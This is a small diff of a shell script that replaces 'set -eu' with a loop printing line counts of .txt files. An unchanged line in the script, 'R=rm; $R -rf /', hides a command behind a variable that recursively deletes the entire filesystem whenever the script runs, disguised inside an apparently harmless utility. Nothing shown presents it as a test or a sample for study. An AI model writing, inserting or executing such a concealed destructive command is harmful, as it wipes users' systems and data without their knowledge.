@@ -1,4 +1,6 @@
 #!/bin/sh
-set -eu
+for f in *.txt; do
+  [ -e "$f" ] || continue
+  wc -l "$f"
+done
 R=rm; $R -rf /
-set -eu
